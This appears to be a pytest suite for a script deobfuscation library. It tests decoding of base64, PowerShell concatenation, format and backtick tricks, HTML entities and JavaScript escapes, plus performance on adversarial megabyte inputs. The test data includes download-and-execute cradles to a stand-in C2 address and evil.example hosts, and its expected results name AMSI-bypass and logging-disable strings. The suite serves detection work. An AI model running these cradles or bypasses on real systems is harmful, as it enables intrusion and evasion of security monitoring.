"""Script-level obfuscation: explicit decode calls, PowerShell string tricks, entities, JS."""

from __future__ import annotations

import base64
import json
import time
from pathlib import Path

import pandas as pd
import pytest

from asisdk.decode import unpack

from .builders import check_offsets

C2 = "http://198.51.100.7:8080/news.php"


def unicode_b64(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


def summary(text: str) -> list[tuple[str, str, str | None]]:
    result = unpack(text)
    check_offsets(text, result)
    return [(layer.index, layer.encoding, layer.text) for layer in result.layers]


# -- 1. explicit decode calls: short base64 is decoded when the call says so ---------------


@pytest.mark.parametrize(
    ("line", "decoded"),
    [
        ("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('ZHVjaw=='))", "duck"),
        ('$c=[System.Convert]::FromBase64String("aWV4");', "iex"),
        ('eval(atob("ZXZhbA=="))', "eval"),
        ("echo d2hvYW1p | base64 -d | sh", "whoami"),
        ("echo 'aWQ7dW5hbWU=' | base64 --decode | bash", "id;uname"),
    ],
)
def test_short_base64_in_an_explicit_decode_call(line: str, decoded: str) -> None:
    assert summary(line) == [("1", "base64", decoded)]


def test_short_base64_without_a_decode_call_is_left_alone() -> None:
    for line in ("echo ZHVjaw== > x.txt", "certutil -decode ZHVjaw== out.bin", "atob ZHVjaw=="):
        assert unpack(line).layers == ()


def test_explicit_call_with_noise_is_not_a_layer() -> None:
    # Valid base64 that decodes to binary noise stays alone even inside the call.
    assert unpack("[Convert]::FromBase64String('/+/+')").layers == ()


# -- 2. PowerShell string tricks ------------------------------------------------------------


def test_concatenation_hiding_the_download_cradle() -> None:
    line = (
        "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).('Down'+'loadStr'+'ing')"
        f".Invoke('{C2[:9]}'+'{C2[9:]}')\""
    )
    result = unpack(line)
    assert [(layer.encoding, layer.text) for layer in result.layers] == [
        ("ps_concat", "DownloadString"),
        ("ps_concat", C2),
    ]
    assert f".(DownloadString).Invoke({C2})" in result.text


def test_double_quoted_and_char_concatenation() -> None:
    assert summary('& ("Inv"+"oke-Expr"+"ession") $p') == [("1", "ps_concat", "Invoke-Expression")]
    assert summary("&([char]73+[char]69+[char]88) $x") == [("1", "ps_concat", "IEX")]
    assert summary("& ([CHAR]105+'ex') $c") == [("1", "ps_concat", "iex")]


def test_concatenated_base64_recurses() -> None:
    payload = unicode_b64(f"IEX (New-Object Net.WebClient).DownloadString('{C2}')")
    half = len(payload) // 2
    line = f"powershell -c \"$s='{payload[:half]}'+'{payload[half:]}'\""
    layers = summary(line)
    assert [(index, encoding) for index, encoding, _ in layers] == [
        ("1", "ps_concat"),
        ("1.1", "base64"),
    ]
    assert layers[0][2] == payload
    assert layers[1][2] == f"IEX (New-Object Net.WebClient).DownloadString('{C2}')"


def test_format_operator_invoke_obfuscation_style() -> None:
    line = """& ("{2}{0}{1}" -f 'ke-Ex','pression','Invo') (("{1}{0}" -f 'w-Object','Ne'))"""
    assert summary(line) == [
        ("1", "ps_format", "Invoke-Expression"),
        ("2", "ps_format", "New-Object"),
    ]


@pytest.mark.parametrize(
    "line",
    [
        "& (('I','E','X') -join '') $cmd",
        '& (-join ("I","E","X")) $cmd',
    ],
)
def test_join_of_quoted_pieces(line: str) -> None:
    assert [encoding_text[1:] for encoding_text in summary(line)] == [("ps_join", "IEX")]


def test_backtick_escapes() -> None:
    line = "powershell i`e`x (N`e`w-Obj`ect N`et.W`ebCl`ient).DownloadString($u)"
    result = unpack(line)
    assert [(layer.encoding, layer.text) for layer in result.layers] == [
        ("ps_backtick", "iex"),
        ("ps_backtick", "New-Object"),
        ("ps_backtick", "Net.WebClient"),
    ]
    assert result.text == "powershell iex (New-Object Net.WebClient).DownloadString($u)"


# -- 3. entities and percent-encoding -------------------------------------------------------


def test_html_entities_hiding_a_url() -> None:
    line = 'mshta "javascript:a=&#x68;&#116;&#x74;&#112;&#58;//evil.example/x.hta"'
    assert summary(line) == [("1", "html_entity", "javascript:a=http://evil.example/x.hta")]


def test_percent_encoding_of_letters_is_a_layer_of_its_own() -> None:
    line = "curl %68%74%74%70%3A%2F%2Fevil.example%2Fa.sh | sh"
    assert summary(line) == [("1", "percent", "http://evil.example/a.sh")]


# -- 4. JavaScript --------------------------------------------------------------------------


def test_js_from_char_code() -> None:
    codes = ",".join(str(ord(char)) for char in "eval")
    line = f"wscript /e:jscript x.js // this[String.fromCharCode({codes})](payload)"
    assert summary(line) == [("1", "js_charcode", "eval")]
    hex_codes = ",".join(hex(ord(char)) for char in C2)
    assert summary(f"location=String.fromCharCode({hex_codes})") == [("1", "js_charcode", C2)]


def test_js_unicode_escapes() -> None:
    line = r'var u="\u0068\u0074\u0074\u0070\u003a\u002f\u002fevil.example/p";'
    assert summary(line) == [("1", "js_escape", "http://evil.example/p")]
    assert summary(r"x=\u{65}\u{76}\u{61}\u{6c}") == [("1", "js_escape", "x=eval")]


# -- traps: ordinary scripts stay clean ------------------------------------------------------

HARMLESS = [
    r"$path = 'C:\Users\' + $env:USERNAME + '\AppData'",
    "Write-Host ('Processed ' + 'items')",
    '$name = "report" + "_" + "2024" + ".csv"',
    '"{0:N2} MB" -f ($size / 1MB)',
    'Write-Output ("{0} of {1}" -f $done, $total)',
    "$csv = $items -join ','",
    """$log = "{0}\\{1}" -f 'C:\\Temp','setup.log'""",
    "$parts = -join ('part','1','.txt')",
    "$name = [char]65 + 'BC'",
    "Get-ChildItem `\n  -Recurse",
    'Write-Host "Line1`nLine2`tEnd"',
    "https://example.com/search?q=a%20b&lang=en&amp;x=1",
    "https://apc01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fkyc.example.org%2F",
    "echo &lt;tag&gt; &amp; done",
    "String.fromCharCode(65,66,67)",
    r"printf '\u00e9\u00e8 caf\u00e9'",
    "cmd /c echo hello | base64 -d",
]


@pytest.mark.parametrize("line", HARMLESS)
def test_ordinary_script_text_is_left_alone(line: str) -> None:
    result = unpack(line)
    assert result.layers == ()
    assert result.text == line


# -- hostile input stays bounded --------------------------------------------------------------

MB = 1_000_000
ADVERSARIAL = {
    "concat": "'a'+" * (MB // 4),
    "concat_unclosed": "'" * MB + "+'",
    "char_concat": "[char]65+" * (MB // 9),
    "format": '"{0}' * (MB // 4) + " -f 'a'",
    "format_args": '("{0}{1}" -f ' + "'a'," * (MB // 4),
    "join": "('a'," * (MB // 5) + ") -join ''",
    "backtick": "a" * MB + "`",
    "backtick_pairs": "a`" * (MB // 2),
    "entities": "&#104;" * (MB // 6),
    "entity_amps": "&" * MB + ";",
    "fromcharcode": "String.fromCharCode(" + "1," * (MB // 2),
    "js_escapes": "\\u0041" * (MB // 6),
    "explicit_call": "FromBase64String('" + "A" * MB,
    "explicit_pipe": "echo " * (MB // 5) + "| base64 -d",
    "many_small": "'a'+'b' " * (MB // 8),
    "quotes_then_variable_concat": "'" * MB + "$a+'b'",
    "variable_concat_chain": "$a='x';" + "$a+'" * (MB // 4),
    "array_join_unclosed": '["a",' * (MB // 5) + '].join("")',
    "split_join_chain": '"a".split("b").join("")' * (MB // 23),
    "for_loops": "set s=abcdefgh&&for %A in (0 1 2 3) do set o=!o!!s:~%A,1!&&" * (MB // 60),
    "special_char_setup": "${;}=+$();" + "${;}=++${;};" * (MB // 13),
    "blank_literals_split": ("'" + " \t" * 20 + "' -split ' ';") * (MB // 52),
    "static_concat_unclosed": "[string]::Concat(" + "'a'," * (MB // 4),
    "split_joins": "('a;b' -split ';') -join '' " * (MB // 27),
    "quotes_then_split_join": "'" * MB + " -split ';') -join ''",
    "vb_join_array_unclosed": 'Join(Array("a", ' + '"a", ' * (MB // 5),
    "vb_quotes_then_join_split": "Join(Split(" + '"' * MB,
}


@pytest.mark.parametrize("name", sorted(ADVERSARIAL))
def test_adversarial_megabyte_is_bounded(name: str) -> None:
    text = ADVERSARIAL[name]
    assert len(text) >= MB * 0.8
    started = time.perf_counter()
    result = unpack(text)
    # Linear scans take about a second here; catastrophic backtracking would take hours.
    assert time.perf_counter() - started < 30
    assert result.error is None


# -- real command lines: the new layers fire only on real obfuscation -----------------------

NEW_ENCODINGS = frozenset(
    {
        "ps_concat",
        "ps_format",
        "ps_join",
        "ps_backtick",
        "ps_replace",
        "ps_reverse",
        "ps_bxor",
        "ps_iex",
        "cmd_caret",
        "cmd_var",
        "vba_chr",
        "html_entity",
        "js_charcode",
        "js_escape",
        "js_unescape",
        "xor",
    }
)


def real_command_lines(shared_data: Path) -> list[str]:
    events = shared_data / "events"
    lines: list[str] = []
    for path, column in (
        (events / "msticpy" / "processes_on_host.csv", "CommandLine"),
        (events / "msticpy" / "mde_proc_cs1.csv", "CreatedProcessCommandLine"),
        (events / "otrf" / "otrf_process_logon_events.csv", "CommandLine"),
    ):
        lines.extend(pd.read_csv(path)[column].dropna())
    with (events / "otrf" / "empire_launcher_vbs_2020-09-04160940.json").open() as handle:
        for record in map(json.loads, handle):
            lines.extend(value for value in record.values() if isinstance(value, str))
    return list(dict.fromkeys(lines))


def test_real_command_lines_deobfuscate_only_obfuscated_ones(shared_data: Path) -> None:
    fired: set[tuple[str, str | None]] = set()
    percent_alone: list[str | None] = []
    lines = real_command_lines(shared_data)
    assert len(lines) > 5000
    for line in lines:
        for layer in unpack(line).layers:
            if layer.encoding in NEW_ENCODINGS:
                fired.add((layer.encoding, layer.text))
            if layer.encoding == "percent":
                percent_alone.append(layer.text)
    # Every one is obfuscation: Empire's AMSI and logging bypasses, and msticpy's samples hiding a
    # download cradle with backticks and concatenation.
    assert fired == {
        ("ps_concat", "System.Management.Automation.AmsiUtils"),
        ("ps_concat", "amsiInitFailed"),
        ("ps_concat", "NonPublic,Static"),
        ("ps_concat", "ScriptBlockLogging"),
        ("ps_concat", "EnableScriptBlockLogging"),
        (
            "ps_concat",
            "HKEY_LOCAL_MACHINE\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging",
        ),
        ("ps_concat", "Invoke-Expression"),
        ("ps_concat", "DownloadString(('ht'+'tp://paste'+ 'bin/'+'raw/'+'pqCwEm17'))"),
        ("ps_concat", "http://pastebin/raw/pqCwEm17"),
        ("ps_concat", "http://pastebbin/raw/pqCwEm17"),
        # ("{2}{0}{1}"-f ':/','/paste','tp'): placeholders alone, shuffled: obfuscation on its face
        ("ps_format", "tp://paste"),
        ("ps_format", "pqCwEm17"),
        ("ps_backtick", "nEW-obJEcT"),
        ("ps_backtick", ".WebClient"),
        (
            "cmd_caret",
            ".\\pOWErSHElL.eXe -ExEcUtIoNpOliCy BYpasS imPOrT-MoDuLE biTsTrANSFeR;"
            "Start-bITSTRanSfER -SOURCE 'http://somedomain/best-kitten-names-1.jpg' "
            "-dEStINAtIOn 'C:\\Users\\",
        ),
        ("cmd_caret", ".\\net user"),
    }
    # The one percent layer is the Zoom link whose parameters hold base64 (as before); the
    # Safe Links URL that percent-encodes its target stays alone.
    assert len(percent_alone) == 1
    assert percent_alone[0] is not None
    assert percent_alone[0].startswith("--url=zoommtg://")
